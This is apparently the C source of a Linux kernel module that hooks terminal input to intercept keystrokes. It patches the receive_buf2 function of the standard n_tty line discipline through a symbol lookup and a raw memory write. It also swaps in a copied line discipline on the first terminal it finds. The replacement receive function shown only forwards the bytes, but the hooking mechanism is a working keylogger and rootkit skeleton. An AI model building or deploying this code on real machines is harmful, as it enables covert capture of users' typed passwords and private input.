/* Listens to what is typed, in the two ways that are described in public: a function of the usual line discipline is
 * replaced, and one terminal is given a line discipline of its own. Both call what was there before. */
#include <linux/tty.h>
#include <linux/tty_driver.h>
#include <linux/tty_ldisc.h>
#include "tamper.h"

typedef int (*receive)(struct tty_struct *tty, const unsigned char *bytes, const char *marks, int count);

static receive before;
static int own_receive(struct tty_struct *tty, const unsigned char *bytes, const char *marks, int count)
{
    return before(tty, bytes, marks, count);
}

static struct tty_ldisc_ops copy;

/* The first terminal that has a line discipline goes by the copy. */
static int over_a_terminal(struct list_head *drivers)
{
    struct tty_driver *driver;
    unsigned int i;
    list_for_each_entry(driver, drivers, tty_drivers)
        for (i = 0; driver->ttys != NULL && i < driver->num; i++) {
            struct tty_struct *tty = driver->ttys[i];
            if (tty == NULL || tty->ldisc == NULL)
                continue;
            copy = *tty->ldisc->ops;
            copy.receive_buf2 = (void *)own_receive;
            tty->ldisc->ops = &copy;
            return 0;
        }
    return -ENOENT;
}

static int __init begin(void)
{
    struct tty_ldisc_ops *usual = (struct tty_ldisc_ops *)lookup("n_tty_ops");
    struct list_head *drivers = (struct list_head *)lookup("tty_drivers");
    void *own = own_receive;
    int failed;
    if (usual == NULL || drivers == NULL)
        return -ENOENT;
    before = (receive)usual->receive_buf2;
    failed = over_a_terminal(drivers);
    if (failed == 0)
        poke(&usual->receive_buf2, &own, sizeof own);
    return failed;
}
module_init(begin);
